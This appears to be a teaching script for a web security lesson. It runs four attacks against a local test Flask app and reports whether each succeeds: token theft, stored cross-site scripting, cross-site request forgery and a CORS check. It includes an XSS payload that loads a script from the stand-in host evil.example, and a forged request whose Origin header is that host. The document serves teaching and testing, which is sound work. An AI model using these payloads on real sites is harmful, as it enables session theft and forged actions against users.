"""Attacks of lesson 9, tried on app.py. The client keeps cookies, as the browser of ada does."""

from app import app

EVIL = "https://evil.example"
browser = app.test_client()
login = browser.post("/login", json={"username": "ada", "password": "analytical engine"})


def steal_token_by_script():
    """Read the cookie in a script, or the token in the response that a script has stored, and send it away."""
    return "HttpOnly" not in login.headers["Set-Cookie"] or browser.get_cookie("token").value in login.text


def inject_script():
    """Add a task with a script in its title, for example by an import. The page of ada runs it."""
    csrf = {"X-CSRF-Token": login.json.get("csrf", "")}
    browser.post("/tasks", json={"title": f"<script src='{EVIL}/steal.js'></script>"}, headers=csrf)
    return "<script" in browser.get("/").text


def post_from_other_site():
    """Let a form on another site send itself. The browser adds the cookie of ada, unless SameSite forbids it.

    Pages of another port of the same host, or of a host of the same domain, are the same site: SameSite does not help.
    """
    return browser.post("/tasks", data={"title": "Transfer 500"}, headers={"Origin": EVIL}).status_code == 201


def read_from_other_origin():
    """Let a script on another origin read the tasks with the cookie of ada."""
    headers = browser.get("/", headers={"Origin": EVIL}).headers
    return headers.get("Access-Control-Allow-Origin") == EVIL


for attack in (steal_token_by_script, inject_script, post_from_other_site, read_from_other_origin):
    print(f"{attack.__name__}: {'succeeds' if attack() else 'fails'}")
